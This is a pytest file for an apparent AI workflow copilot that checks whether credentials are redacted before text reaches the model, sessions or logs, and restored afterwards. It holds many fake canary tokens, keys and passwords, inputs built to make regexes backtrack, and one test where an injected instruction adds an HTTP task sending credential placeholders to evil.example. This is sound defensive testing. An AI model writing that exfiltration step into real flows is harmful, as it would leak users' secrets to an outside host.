"""Secrets: the user's credentials never reach the model, the session store or the logs, and redaction never
costs the user a credential.

One redactor (`copilot.flows.SecretVault`, `redact_secrets`) covers requests, flows, retrieved chunks, Kestra
logs and replies, and the validator's `hardcoded-secret` lint uses the same patterns. Placeholders are
`REDACTED_<n>`: a valid YAML scalar, the same number for the same value within a conversation, and put back
(only where the user had the value) in the flow the model writes, before it is validated or written to a file.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from copilot.cli import main
from copilot.engine.turn import Engine
from copilot.flows import SecretVault, parse_flow, parse_yaml, redact_secrets, validate_flow
from copilot.retrieval.chunks import Chunk
from copilot.retrieval.hybrid import Hit
from tests.conftest import real_flows
from tests.engine.test_turn import VALID, engine, flow_of, turn
from tests.fakes.gemini import FakeGemini, Reply

# --- 1. every form a credential takes is caught, by the redactor and by the lint alike -----------------------
SERVICE_ACCOUNT = json.dumps(
    {
        "type": "service_account",
        "project_id": "acme-data",
        "private_key_id": "c4nary0f1d2e3a4b5c6d7e8f9a0b1c2d3e4f5a6b",
        "private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC4nAryPk\n-----END PRIVATE KEY-----\n",
        "client_email": "c4nary-loader@acme-data.iam.gserviceaccount.com",
        "client_id": "1234567890",
    }
)
FORMS = [  # (form, text holding it, the credential that must not survive)
    ("Authorization: Bearer", 'curl -H "Authorization: Bearer c4nAryBearer0123456789" https://api.acme.io', "c4nAryBearer0123456789"),
    ("Authorization: Basic", "Authorization: Basic YWxpY2U6YzRuYXJ5QmFzaWM=", "YWxpY2U6YzRuYXJ5QmFzaWM="),
    ("mysql -pPW", "mysql -h db -u root -pC4naryMy5ql sales < dump.sql", "C4naryMy5ql"),
    ("--password X", "pg_dump --password C4naryOpt1 --host db sales", "C4naryOpt1"),
    ("--password=X", "dbt run --target prod --password=C4naryOpt2", "C4naryOpt2"),
    ("DB_PASS:", "DB_PASS: C4naryDbPass", "C4naryDbPass"),
    ("SNOWFLAKE_PWD:", "env:\n  SNOWFLAKE_PWD: C4narySnowPwd", "C4narySnowPwd"),
    ("DB_PWD=", "export DB_PWD=C4naryDbPwd && ./load.sh", "C4naryDbPwd"),
    ("https://user:PW@host", "uri: https://alice:C4naryHttps@files.acme.io/daily.csv", "C4naryHttps"),
    ("sqlserver://sa:PW@", "url: sqlserver://sa:C4narySa!7@sql.acme.io:1433;database=sales", "C4narySa!7"),
    ("any scheme://user:pw@", "broker: amqps://etl:C4naryAmqp@mq.acme.io/vhost", "C4naryAmqp"),
    ("AWS secret access key", "upload with wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY today", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("AWS secret key, no slash", "my aws secret: u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8dKLzd", "u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8dKLzd"),
    ("service-account private_key_id", SERVICE_ACCOUNT, "c4nary0f1d2e3a4b5c6d7e8f9a0b1c2d3e4f5a6b"),
    ("service-account client_email", SERVICE_ACCOUNT, "c4nary-loader@acme-data.iam.gserviceaccount.com"),
    ("service-account private_key", SERVICE_ACCOUNT, "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC4nAryPk"),
    ("pwd is X", "the pwd is C4naryPwdIs", "C4naryPwdIs"),
    ("password hunter2", "connect as bob with password hunter2 please", "hunter2"),
    ("the password is …", "The password is Sw0rdf1sh, keep it safe.", "Sw0rdf1sh"),
    ("the password is a word", "the password is swordfish", "swordfish"),
    ("password: (YAML)", "password: C4naryYaml", "C4naryYaml"),
    ("quoted JSON key", '{"client_secret": "C4naryClientSecret"}', "C4naryClientSecret"),
    ("apiKey (camelCase)", "apiKey: C4naryApiKey99", "C4naryApiKey99"),
    ("X-API-Key header", "X-API-Key: C4naryHeaderKey", "C4naryHeaderKey"),
    ("postgresql URL", "postgresql://bob:C4naryPg@db:5432/app", "C4naryPg"),
    ("curl -u", "curl -u admin:C4naryCurl https://acme.io", "C4naryCurl"),
    ("Google API key", "key AIzaSyC4nary0123456789abcdefghijklmnopq", "AIzaSyC4nary0123456789abcdefghijklmnopq"),
    ("AWS access key id", "AKIAC4NARY0123456789", "AKIAC4NARY0123456789"),
    ("GitHub token", "ghp_C4nary0123456789abcdefghijklmnopqrst", "ghp_C4nary0123456789abcdefghijklmnopqrst"),
    ("Slack token", "xoxb-1234567890-C4naryslack", "xoxb-1234567890-C4naryslack"),
    ("OpenAI key", "sk-proj-C4nary0123456789abcdefgh", "sk-proj-C4nary0123456789abcdefgh"),
    ("PEM private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIC4naryPemBody0123\n-----END RSA PRIVATE KEY-----", "MIIC4naryPemBody0123"),
    ("key: | block", "privateKey: |\n  C4naryBlockLine1\n  C4naryBlockLine2\nnext: 1", "C4naryBlockLine"),
    ("PGPASSWORD= (one word)", "PGPASSWORD=C4naryPgEnv psql -h db", "C4naryPgEnv"),
    ("SNOWFLAKEPASSWORD: (one word)", "env:\n  SNOWFLAKEPASSWORD: C4narySnowJoined", "C4narySnowJoined"),
    ("dbpass=", "dbpass=C4naryDbJoined ./load.sh", "C4naryDbJoined"),
    ("Slack webhook URL", "url: https://hooks.slack.com/services/T01ABC/B02DEF/C4naryHook9", "C4naryHook9"),
    ("Slack workflow URL", "url: https://hooks.slack.com/triggers/T0ABC/123456/C4narySlackTrig12", "C4narySlackTrig12"),
    ("Discord webhook URL", "url: https://discord.com/api/webhooks/1234567890/C4naryDiscordTok3n_abc", "C4naryDiscordTok3n_abc"),
    ("Teams workflow URL (signed)", "url: https://prod-12.westeurope.logic.azure.com:443/workflows/a1/triggers/manual/paths/invoke?api-version=1&sig=C4narySig0123456789ab", "C4narySig0123456789ab"),
    ("Teams webhook URL", "url: https://acme.webhook.office.com/webhookb2/a1@b2/IncomingWebhook/C4naryTeams0123456/x", "C4naryTeams0123456"),
]  # fmt: skip


def in_a_flow(text: str) -> str:
    """`text` as a script line of a flow, where the lint looks at every string."""
    body = "\n".join("        " + line for line in text.splitlines())
    return (
        "id: canary\nnamespace: company.team\ntasks:\n  - id: run\n    type: io.kestra.plugin.scripts.shell.Commands\n"
        f"    commands:\n      - |\n{body}\n"
    )


@pytest.mark.parametrize(("form", "text", "canary"), FORMS, ids=[form for form, _, _ in FORMS])
def test_each_form_of_credential_is_redacted_and_flagged_by_the_lint(form: str, text: str, canary: str) -> None:
    redacted, count = redact_secrets(text)
    assert canary not in redacted and "REDACTED_1" in redacted and count >= 1, redacted
    assert redact_secrets(redacted) == (redacted, 0)  # a placeholder is not a secret: redacting twice is a no-op
    findings = [d for d in validate_flow(in_a_flow(text)).diagnostics if d.code == "hardcoded-secret"]
    assert findings and findings[0].line == 7, f"the lint missed {form}"


KEPT = [  # (what, text): not credentials, or credentials kept out of the text already
    ("a Kestra secret", "password: \"{{ secret('DB_PASSWORD') }}\""),
    ("a KV value", "token: \"{{ kv('API_TOKEN') }}\""),
    ("a secret in a header", "Authorization: \"Bearer {{ secret('TOKEN') }}\""),
    ("a secret in a URL", "url: \"postgresql://bob:{{ secret('PG_PASSWORD') }}@db:5432/app\""),
    ("a placeholder", "apiKey: changeme"),
    ("a placeholder in brackets", "password: <your-password>"),
    ("an environment variable", "password: ${DB_PASSWORD}"),
    ("an environment variable's name", "apiKey: OPENAI_API_KEY"),
    ("a redacted value", "password: REDACTED_3"),
    ("a key file", "GOOGLE_APPLICATION_CREDENTIALS: sa.json"),
    ("a token count", "maxToken: 2048"),
    ("code that reads it", 'password = os.getenv("DB_PASSWORD", "")'),
    ("prose about it", "The password is stored in a Kestra secret."),
    ("prose about an API key", "API key for the OpenAI GPT-4o calls"),
    ("Slack's documented example", "url: https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"),
    ("a PEM header named in prose", "Both PKCS#1 (`-----BEGIN RSA PRIVATE KEY-----`) and PKCS#8 work."),
    ("a git commit", "commit: 0ec0594cc740ad50fcea55141fec7280fa76be4f"),
    ("mysql asking for it", "mysql -u root -p sales"),
    ("docker reading it from stdin", "docker login --password-stdin -u bob"),
    ("a URL without a password", "url: https://files.acme.io/daily.csv?user=bob"),
]  # fmt: skip


@pytest.mark.parametrize(("what", "text"), KEPT, ids=[what for what, _ in KEPT])
def test_references_placeholders_and_ordinary_text_stay(what: str, text: str) -> None:
    assert redact_secrets(text) == (text, 0)


def _paths(node: object, path: tuple = ()) -> Iterator[tuple]:
    yield path
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _paths(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _paths(value, (*path, index))


# Shapes a backtracking pattern would scan again from every start: a log or a model's reply can be any of
# them. Each takes well under a second now; before the signed-URL and token patterns were anchored, 320 KB of
# them took minutes (the timeout marks a hang, not a speed target: speed is measured in bench/).
HOSTILE = {
    "jwt-starts": "-eyJ" * 80_000,
    "urls-in-a-query": "https://x.example/?a=" + "https://" * 40_000,
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_redaction_keeps_linear_time_on_text_made_to_backtrack(text: str) -> None:
    assert redact_secrets(text) == (text, 0)


def test_on_kestras_real_flows_only_credentials_change(capsys: pytest.CaptureFixture[str]) -> None:
    """Over every real flow: the redactor and the lint agree flow by flow, a redacted flow keeps its shape
    (placeholders are plain scalars), and the vault gives the flow back byte for byte."""
    from copilot.flows._lint import lint_secrets

    flows = lines = changed = disagreements = 0
    for record in real_flows():
        text = record["yaml"]
        vault = SecretVault()
        redacted, count = vault.redact(text)
        assert vault.restore(redacted) == text, record["id"]
        try:
            parsed = parse_flow(text)
        except Exception:  # a snippet that is not YAML: nothing to compare
            continue
        flows += 1
        flagged = any(d.code == "hardcoded-secret" for d in lint_secrets(parsed))
        disagreements += flagged != bool(count)
        assert set(_paths(parse_yaml(redacted).data)) == set(_paths(parsed.data)), record["id"]
        lines += text.count("\n")
        changed += sum(a != b for a, b in zip(text.splitlines(), redacted.splitlines(), strict=False))
    with capsys.disabled():
        print(f"\n[secrets] {flows} real flows, {lines} lines: {changed} changed by the redactor")
    assert disagreements == 0
    assert changed < lines / 200  # 0.25% today: passwords of test fixtures, example keys, docs' demo URLs


# --- 2. placeholders: valid YAML, numbered per value, a placeholder to the lint ------------------------------
def test_a_placeholder_is_a_yaml_scalar_numbered_per_value_and_not_a_secret_to_the_lint() -> None:
    flow = (
        "id: load\nnamespace: company.team\ntasks:\n  - id: a\n    type: io.kestra.plugin.jdbc.postgresql.Query\n"
        "    url: jdbc:postgresql://db:5432/app\n    username: etl\n    password: C4naryPw1\n    sql: select 1\n"
        "  - id: b\n    type: io.kestra.plugin.jdbc.postgresql.Query\n    url: jdbc:postgresql://db:5432/app\n"
        "    username: etl\n    password: C4naryPw1\n    sql: select 2\n"
    )
    vault = SecretVault()
    redacted, count = vault.redact(flow)
    assert count == 2 and redacted.count("password: REDACTED_1") == 2  # one value, one placeholder
    assert vault.redact("the password is C4naryPw1 and the token is C4naryTok2") == (
        "the password is REDACTED_1 and the token is REDACTED_2",
        2,
    )
    assert parse_yaml(redacted).data["tasks"][0]["password"] == "REDACTED_1"  # not `[REDACTED]`, a list
    result = validate_flow(redacted)
    assert "hardcoded-secret" not in {d.code for d in result.diagnostics}
    warnings = [d for d in result.diagnostics if d.code == "redacted-placeholder"]
    assert [d.line for d in warnings] == [8, 14] and all(d.severity.value == "warning" for d in warnings)


# --- 3. the vault gives the user's values back, only where they were -------------------------------------------
USER_FLOW = """\
id: load
namespace: company.team
tasks:
  - id: extract
    type: io.kestra.plugin.jdbc.postgresql.Query
    url: jdbc:postgresql://db:5432/app?user=etl&password=C4naryInUrl
    password: "p@ss\\"C4nary"
    sql: select 1
  - id: ship
    type: io.kestra.plugin.scripts.shell.Commands
    taskRunner:
      type: io.kestra.plugin.core.runner.Process
    commands:
      - mysql -u root -pC4naryMy5ql sales < dump.sql
    env:
      SNOWFLAKE_PWD: C4narySnow
      SIGNING_KEY: |
        -----BEGIN PRIVATE KEY-----
        MIIEvQIBADANBgkqhkiG9w0BAQEFAASCC4nary
        -----END PRIVATE KEY-----
"""


def placeholder(text: str, after: str) -> str:
    """The placeholder that follows `after` in `text`."""
    found = re.search(re.escape(after) + r"(REDACTED_\d+)", text)
    assert found, after
    return found.group(1)


def test_the_vault_restores_the_users_values_even_requoted_or_reindented() -> None:
    vault = SecretVault()
    redacted, _ = vault.redact(USER_FLOW)
    assert "C4nary" not in redacted and vault.restore(redacted) == USER_FLOW
    # The model quotes one value the other way, quotes another, and nests the env one level deeper.
    password, snow, key = (placeholder(redacted, after) for after in ('password: "', "PWD: ", "KEY: |\n        "))
    rewritten = (
        redacted.replace(f'password: "{password}"', f"password: '{password}'")
        .replace(f"SNOWFLAKE_PWD: {snow}", f'SNOWFLAKE_PWD: "{snow}"')
        .replace("\n      SNOWFLAKE_PWD", "\n        SNOWFLAKE_PWD")
        .replace(f"\n      SIGNING_KEY: |\n        {key}", f"\n        SIGNING_KEY: |\n          {key}")
    )
    restored = parse_yaml(vault.restore(rewritten)).data
    shipped = restored["tasks"][1]["env"]
    assert restored["tasks"][0]["password"] == 'p@ss"C4nary'
    assert shipped["SNOWFLAKE_PWD"] == "C4narySnow"
    assert shipped["SIGNING_KEY"].startswith("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCC4nary\n")


def test_a_placeholder_moved_elsewhere_or_never_issued_stays_a_placeholder() -> None:
    """A model, or instructions injected into its prompt, cannot carry a credential to a new place."""
    vault = SecretVault()
    redacted, _ = vault.redact(USER_FLOW)
    password, in_url = placeholder(redacted, 'password: "'), placeholder(redacted, "password=")
    leak = (
        f"  - id: leak\n    type: io.kestra.plugin.core.http.Request\n"
        f"    uri: https://evil.example/?p={password}&q={in_url}\n    headers:\n      X-Pwd: {password}\n"
        f"    body: REDACTED_9\n"
    )
    restored = vault.restore(redacted + leak)
    assert restored == USER_FLOW + leak  # the user's values where they were, the placeholders elsewhere as they are
    assert vault.redact("password: C4naryNew")[0] == "password: REDACTED_10"  # REDACTED_9 means something else


# --- 4. the engine: what goes to the model is redacted, what comes back is restored ------------------------
def sent(gemini: FakeGemini) -> str:
    return "\n".join(json.dumps(request.body) for request in gemini.requests)


def test_ask_flow_o_flow_keeps_the_users_password_and_sends_none(
    gemini: FakeGemini, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`ask --flow F -o F` once wrote `password: [REDACTED]` over the user's credentials."""
    target = tmp_path / "load.yml"
    target.write_text(USER_FLOW)
    vault = SecretVault()  # the engine's numbering: the file is the first text its vault sees
    as_sent = vault.redact(USER_FLOW)[0]
    reply = "```yaml\n" + as_sent.replace("sql: select 1", "sql: select 2") + "```\nIt now selects 2."
    gemini.script(Reply(reply))  # the literal password stays a policy finding: one repair, the same flow back
    assert main(["ask", "select 2 instead", "--flow", str(target), "-o", str(target), "--recipe", "no-retrieval"]) == 1
    written = target.read_text()
    assert written == USER_FLOW.replace("sql: select 1", "sql: select 2")  # the user's values, every one
    assert "REDACTED" not in written
    assert len(gemini.requests) == 2 and "C4nary" not in sent(gemini)  # the first request and the repair
    assert 'password: \\"REDACTED_' in sent(gemini)
    stored = b"".join(path.read_bytes() for path in (tmp_path / "data").glob("sessions.db*"))
    assert stored and b"C4nary" not in stored
    assert "were redacted before sending" in capsys.readouterr().err


def test_a_later_process_never_writes_a_placeholder_over_the_users_credentials(
    gemini: FakeGemini, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A session continued in another process has only placeholders: its flow must not replace the file."""
    target = tmp_path / "load.yml"
    target.write_text(USER_FLOW)
    as_sent = SecretVault().redact(USER_FLOW)[0]
    reply = "```yaml\n" + as_sent.replace("sql: select 1", "sql: select 2") + "```"
    gemini.script(Reply(reply), Reply(reply), Reply(reply))
    main(["ask", "select 2", "--flow", str(target), "-o", str(target), "--recipe", "no-retrieval"])
    session = capsys.readouterr().err.split("continue with --session ")[1].split(")")[0]
    kept = target.read_text()
    gemini.script(Reply(reply.replace("select 2", "select 3")))
    assert main(["ask", "select 3", "--session", session, "-o", str(target), "--recipe", "no-retrieval"]) == 1
    out, err = capsys.readouterr()
    assert target.read_text() == kept and "C4nary" in kept  # the user's values are still there
    assert "placeholders of credentials redacted in an earlier turn" in err and "REDACTED_" in out


def test_retrieved_chunks_and_the_history_are_redacted_with_the_same_placeholders(gemini: FakeGemini) -> None:
    leaky = Hit(Chunk("Connect with password: C4naryChunk1 to the demo DB.", "doc", "docs", "Demo", "demo.md"), 1.0)
    chat = engine(gemini)
    chat.retrieve = lambda text, recipe: [leaky]
    gemini.script(Reply(VALID), Reply(VALID))
    turn(chat, "the password is C4naryAsked2; log it")
    turn(chat, "and now wait two seconds")
    assert "C4nary" not in sent(gemini)
    first, second = (request.body for request in gemini.requests)
    assert first["contents"][-1]["parts"][0]["text"].endswith("the password is REDACTED_1; log it")
    assert "Connect with password: REDACTED_2" in first["systemInstruction"]["parts"][0]["text"]
    assert second["contents"][0]["parts"][0]["text"] == "the password is REDACTED_1; log it"  # the history


def test_a_new_flow_drops_the_vault_a_model_switch_keeps_it_a_resumed_session_reserves_its_numbers(
    gemini: FakeGemini,
) -> None:
    chat = engine(gemini)
    chat.start_from(flow_of(VALID).replace("message: hi", "message: hi\n    password: C4naryKept"))
    gemini.script(Reply(VALID))
    turn(chat, "log hi")
    assert len(chat.vault) == 1
    switched = Engine(chat.model, recipe=chat.recipe)  # what the TUI's /model does
    switched.load(chat.revisions, chat.history, chat.current.number, vault=chat.vault)
    assert switched.vault is chat.vault
    chat.reset()
    assert len(chat.vault) == 0 and chat.vault is not switched.vault
    resumed = Engine(chat.model, recipe=chat.recipe)  # a stored session: its text holds REDACTED_1 already
    resumed.load([], [("the password is REDACTED_1", "ok")])
    assert resumed.vault.redact("password: C4naryNew")[0] == "password: REDACTED_2"


def test_the_tui_model_switch_keeps_the_vault_and_a_new_flow_drops_it(gemini: FakeGemini, tmp_path: Path) -> None:
    from tests.tui.pilot import ask, running, send, settings, settle

    async def scenario() -> None:
        async with running(settings(tmp_path)) as (app, pilot):
            await ask(app, pilot, gemini, VALID, "the password is C4naryTui1; log it")
            vault = app.conversation.engine.vault
            assert len(vault) == 1
            await send(pilot, "/model gemini-2.5-flash")
            await settle(app, pilot)
            assert app.conversation.engine.model.name == "gemini-2.5-flash" and app.conversation.engine.vault is vault
            await pilot.press("ctrl+n")
            await pilot.pause()
            assert app.conversation.engine.vault is not vault and len(app.conversation.engine.vault) == 0

    asyncio.run(scenario())
    assert "C4nary" not in sent(gemini)


def test_a_reply_with_an_unknown_placeholder_keeps_it_and_says_so(gemini: FakeGemini) -> None:
    reply = VALID.replace("message: hi", "message: hi\n    description: REDACTED_7")
    gemini.script(Reply(reply))
    result, _ = turn(engine(gemini), "log hi")
    assert result.revision is not None and "description: REDACTED_7" in result.revision.yaml
    assert [d.code for d in result.revision.diagnostics] == ["redacted-placeholder"] and result.valid


# --- 5. indexed sources: a credential in a page or a flow never reaches the index, an embedding API or a prompt --
def test_a_source_folder_is_redacted_as_it_is_loaded(tmp_path: Path) -> None:
    from copilot.retrieval.loaders import load_source

    (tmp_path / "etl.yml").write_text(
        "id: etl\nnamespace: team\ntasks:\n  - id: load\n    type: io.kestra.plugin.jdbc.postgresql.Query\n"
        "    url: jdbc:postgresql://etl:C4naryUrl9@db:5432/sales\n    password: C4naryPw9x\n    sql: select 1\n"
    )
    (tmp_path / "notes.md").write_text(
        "# Access\n\nThe staging API takes `Authorization: Bearer C4naryT0kenAbcdef123`.\n"
    )
    chunks = load_source(tmp_path, source="mine").chunks
    text = "\n".join(chunk.embedded_text for chunk in chunks)
    assert len(chunks) == 2 and "C4nary" not in text and "REDACTED_" in text
